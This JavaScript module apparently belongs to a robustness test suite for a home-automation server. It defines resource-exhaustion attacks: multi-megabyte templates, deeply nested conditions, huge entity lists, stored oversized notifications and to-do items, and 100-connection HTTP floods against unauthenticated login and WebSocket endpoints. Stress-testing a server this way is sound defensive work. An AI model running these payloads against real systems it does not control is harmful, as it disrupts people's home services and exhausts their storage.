// Single commands and calls with long, deeply nested or permanently stored content.
import { floodHttp, requestOf } from './attacker-http.js';
import { repeated } from './repeated-command.js';

const LONG = 3_900_000; // a frame may hold four million bytes
const deep = (depth) => {
  let condition = { condition: 'template', value_template: '{{ true }}' };
  for (let n = 0; n < depth; n += 1) condition = { condition: 'and', conditions: [condition] };
  return condition;
};
const called = (domain, service, service_data, target) => ({
  type: 'call_service',
  domain,
  service,
  service_data,
  ...(target === undefined ? {} : { target }),
});
const absent = (count) => Array.from({ length: count }, (_, n) => `light.absent_${n}`);

export const payloadAttacks = [
  repeated('number of a million digits and a letter, read-only', ({ targets }) =>
    called('light', 'turn_on', { transition: `${'1'.repeat(1_000_000)}x` }, { entity_id: targets.light }),
  ),
  repeated('template of 4 MB to compile, read-only', () => [
    { type: 'render_template', template: '{{1}}'.repeat(LONG / 5) },
    { type: 'render_template', template: `{{ ${'1+'.repeat(LONG / 2)}1 }}` },
    { type: 'render_template', template: `{{ [${'1,'.repeat(LONG / 2)}1] }}` },
    { type: 'render_template', template: '{% if 1 %}'.repeat(300_000) },
    { type: 'render_template', template: 'a\n'.repeat(LONG / 4) },
    { type: 'render_template', template: `{{ ${'('.repeat(LONG / 2)} }}` },
  ]),
  repeated('template with variables of 4 MB, read-only', () => ({
    type: 'render_template',
    template: '{{ l|length }}',
    variables: { l: Array(900_000).fill(1.5) },
  })),
  repeated('validate_config of 4 MB, read-only', () => [
    {
      type: 'validate_config',
      conditions: Array.from({ length: 50_000 }, () => ({
        condition: 'template',
        value_template: '{{ states }}',
      })),
    },
    {
      type: 'validate_config',
      triggers: Array.from({ length: 60_000 }, (_, n) => ({ trigger: 'state', entity_id: `light.a${n}` })),
    },
    {
      type: 'validate_config',
      actions: Array.from({ length: 70_000 }, () => ({ action: 'light.turn_on', data: { a: '{{ 1 }}' } })),
    },
  ]),
  repeated('subscribe_condition of 4 MB and of 2,000 levels, read-only', () => [
    {
      type: 'subscribe_condition',
      condition: { condition: 'state', entity_id: absent(150_000), state: 'on' },
    },
    { type: 'subscribe_condition', condition: deep(2000) },
  ]),
  repeated('150,000 ids for the lists of entities, read-only', () => [
    { type: 'config/entity_registry/get_entries', entity_ids: absent(150_000) },
    { type: 'extract_from_target', target: { entity_id: absent(150_000) } },
    { type: 'explain_target', target: { entity_id: absent(150_000) } },
    { type: 'get_services_for_target', target: { entity_id: absent(150_000) } },
    { type: 'call_service', domain: 'light', service: 'turn_on', target: { entity_id: absent(150_000) } },
  ]),
  repeated(
    'sentences and names of 4 MB, user',
    () => [
      { type: 'conversation/process', text: 'turn on the light '.repeat(200_000) },
      { type: 'slugify', text: 'Ä'.repeat(LONG / 2) },
      { type: 'hearth/profile/update', name: 'n'.repeat(LONG) },
      { type: 'auth/sign_path', path: `/${'a'.repeat(LONG)}` },
      { type: 'search/related', item_type: 'entity', item_id: 'a'.repeat(LONG) },
    ],
    { who: 'user' },
  ),
  repeated(
    'input_select.set_options of 100,000 options and one twice, user',
    ({ targets }) =>
      called(
        'input_select',
        'set_options',
        { options: [...Array.from({ length: 100_000 }, (_, n) => `o${n}`), 'o0'] },
        { entity_id: targets.select },
      ),
    { who: 'user' },
  ),
  repeated(
    'service calls with 4 MB of data, user',
    ({ targets }) => [
      called('scene', 'apply', { entities: Object.fromEntries(absent(100_000).map((id) => [id, 'on'])) }),
      called('scene', 'create', { scene_id: 'attack', snapshot_entities: absent(100_000) }),
      called('light', 'turn_on', {}, { entity_id: absent(150_000) }),
      called('light', 'turn_on', {}, { area_id: absent(150_000) }),
      called('light', 'turn_on', Object.fromEntries(absent(150_000).map((id) => [id, 1])), {
        entity_id: targets.light,
      }),
      called('todo', 'remove_item', { item: absent(150_000) }, { entity_id: targets.todo }),
    ],
    { who: 'user' },
  ),
  repeated(
    'blueprints of 60,000 keys and of deep maps, administrator',
    () => [
      {
        type: 'blueprint/save',
        domain: 'automation',
        path: 'attack/keys',
        yaml: Array.from({ length: 60_000 }, (_, n) => `k${n}: 1\n`).join(''),
      },
      { type: 'blueprint/save', domain: 'automation', path: 'attack/maps', yaml: '{a: '.repeat(100_000) },
      { type: 'blueprint/save', domain: 'automation', path: 'attack/lists', yaml: '- '.repeat(100_000) },
    ],
    { who: 'admin' },
  ),
  repeated(
    'notifications of 4 MB that are kept, user',
    () => called('persistent_notification', 'create', { message: 'm'.repeat(LONG) }),
    { who: 'user' },
  ),
  repeated(
    'to-do items of 4 MB that are kept, user',
    ({ targets }) => called('todo', 'add_item', { item: 'i'.repeat(LONG) }, { entity_id: targets.todo }),
    { who: 'user' },
  ),
  repeated(
    'scenes made by calls, user',
    ({ targets }) =>
      Array.from({ length: 500 }, (_, n) =>
        called('scene', 'create', {
          scene_id: `attack_${n}_${'s'.repeat(100)}`,
          entities: { [targets.light]: { state: 'on', effect: 'e'.repeat(100_000) } },
        }),
      ),
    { who: 'user' },
  ),
  repeated('tokens made, read-only', () => ({ type: 'hearth/token/create', name: 'attack' }), { sockets: 8 }),
  {
    name: 'attack: log lines of a megabyte, user',
    run: ({ url, tokens }, span) => {
      const body = JSON.stringify({ message: 'l'.repeat(1_000_000), level: 'error' });
      const path = '/api/services/system_log/write';
      const bytes = requestOf({ url, token: tokens.user }, { method: 'POST', path, body });
      return floodHttp({ url, connections: 4, bytes }, span);
    },
  },
  {
    name: 'attack: login flows begun without a login, 100 connections',
    run: ({ url }, span) => {
      const body = JSON.stringify({
        client_id: `${url}/`,
        redirect_uri: `${url}/`,
        handler: ['homeassistant', null],
      });
      const bytes = requestOf({ url }, { method: 'POST', path: '/auth/login_flow', body });
      return floodHttp({ url, connections: 100, bytes }, span);
    },
  },
  {
    name: 'attack: WebSocket handshakes without a login, 100 connections',
    run: ({ url }, span) => {
      const headers =
        'Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n';
      const bytes = requestOf({ url }, { path: '/api/websocket', headers });
      return floodHttp({ url, connections: 100, bytes, stays: false }, span);
    },
  },
  {
    name: 'attack: the web app fetched without a login, 100 connections',
    run: ({ url }, span) => {
      const bytes = requestOf({ url }, { path: '/', headers: 'Accept-Encoding: gzip\r\n' });
      return floodHttp({ url, connections: 100, bytes }, span);
    },
  },
];
